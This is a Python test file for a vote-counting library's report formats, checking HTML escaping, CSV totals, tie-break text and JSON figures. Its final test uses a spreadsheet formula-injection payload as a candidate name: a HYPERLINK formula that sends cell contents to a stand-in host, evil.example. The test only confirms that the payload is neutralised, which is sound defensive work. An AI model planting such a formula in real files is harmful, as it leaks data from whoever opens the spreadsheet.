"""The renderings of a result: escaped HTML for the results page, exact CSV, readable text."""

from __future__ import annotations

import copy
import csv
import dataclasses
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rankandfile.counting import Options, count, read_file
from rankandfile.counting.model import Figures, decimal_text, scaled, units_text
from rankandfile.counting.report import render, to_json
from rankandfile.counting.tests.helpers import DATA

IRV = "burlington_2009_mayor.source.blt"
MEEK = "renfrewshire_2017_ward3.blt"


def test_it_escapes_every_name_in_the_html_fragment() -> None:
    result = count(read_file(str(DATA / "golden" / "small.ballot-box.json")), "stv-scottish", options=Options(seed="s"))
    html = render(result, "html")
    assert "Dee &lt;b&gt;" in html
    assert "<b>" not in html
    assert html.startswith('<section class="tally-report">') and html.rstrip().endswith("</section>")


def test_it_writes_a_csv_row_per_candidate_per_stage_that_adds_up() -> None:
    result = count(read_file(str(DATA / "fife_2017_ward12.blt")), "stv-scottish", options=Options(seed="s"))
    rows = list(csv.DictReader(io.StringIO(render(result, "csv"))))
    assert len(rows) == len(result.stages) * (len(result.candidates) + 2)
    for number in range(1, len(result.stages) + 1):
        stage = [r for r in rows if r["stage"] == str(number)]
        assert sum(Decimal(r["total"]) for r in stage) == result.valid_ballots


def test_it_prints_the_seed_and_every_tie_break_in_the_text_report() -> None:
    result = count(read_file(str(DATA / "renfrewshire_2017_ward3.blt")), "stv-scottish", options=Options(seed="abc"))
    text = render(result, "text")
    assert "Seed             abc" in text
    assert "stage 7, surplus: Neill GRAHAM (C) / JIM SHARKEY (Lab) -> JIM SHARKEY (Lab) (more votes at stage 5)" in text


@given(value=st.integers(min_value=-(10**25), max_value=10**25), decimals=st.sampled_from([0, 1, 5, 9]))
def test_it_writes_a_figure_from_its_integer_as_the_text_of_its_exact_decimal(value: int, decimals: int) -> None:
    assert units_text(value, decimals) == decimal_text(scaled(value, decimals))


@pytest.mark.parametrize(
    ("path", "method"), [("fife_2017_ward12.blt", "stv-scottish"), (IRV, "irv"), (MEEK, "stv-meek")]
)
def test_the_json_report_writes_the_figures_a_stage_keeps_as_integers_as_their_decimals_read(
    path: str, method: str
) -> None:
    result = count(read_file(str(DATA / path)), method, options=Options(seed="s"))
    assert all(isinstance(s.totals, Figures) and isinstance(s.transfers, Figures) for s in result.stages)
    as_dicts = dataclasses.replace(
        result,
        stages=tuple(
            dataclasses.replace(s, totals=dict(s.totals.items()), transfers=dict(s.transfers.items()))
            for s in result.stages
        ),
    )
    assert to_json(result) == to_json(as_dicts)
    for fmt in ("text", "html", "csv"):
        assert render(result, fmt) == render(as_dicts, fmt)


def test_a_stages_figures_read_compare_and_print_as_the_dict_of_their_decimals() -> None:
    result = count(read_file(str(DATA / "fife_2017_ward12.blt")), "stv-scottish", options=Options(seed="s"))
    for stage in result.stages:
        for figures in (stage.totals, stage.transfers):
            plain = dict(figures.items())
            assert list(plain) == list(result.candidates) == list(figures)
            assert figures == plain and plain == figures and (figures != plain) is False
            assert repr(figures) == repr(plain)
            assert len(figures) == len(plain) and "nobody" not in figures and figures.get("nobody") is None
            assert all(figures[name].as_tuple() == plain[name].as_tuple() for name in plain)
            assert copy.deepcopy(figures) == plain and copy.copy(figures) == plain
    changed = dict(result.stages[-1].totals.items())
    changed[result.candidates[0]] += Decimal("0.00001")
    assert result.stages[-1].totals != changed
    assert copy.deepcopy(result) == result


def test_the_csv_report_writes_a_name_that_looks_like_a_formula_as_text_and_the_box_keeps_it(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    box = {
        "format": "rankandfile-ballot-box",
        "version": 1,
        "method": "irv",
        "seats": 1,
        "candidates": [formula, "Ben"],
        "ballots": [{"ranking": [[formula]], "count": 3}, {"ranking": [["Ben"]], "count": 2}],
    }
    path = tmp_path / "box.json"
    path.write_text(json.dumps(box))
    result = count(read_file(str(path)), "irv")
    assert result.elected == (formula,)  # the data file is read back exactly: the recount names the same winner
    rows = list(csv.DictReader(io.StringIO(render(result, "csv"))))
    assert {r["candidate"] for r in rows} >= {"'" + formula, "Ben"}
    assert all(not r[k].startswith("=") for r in rows for k in r)
    assert json.loads(render(result, "json"))["candidates"][0] == formula  # only the spreadsheet format quotes
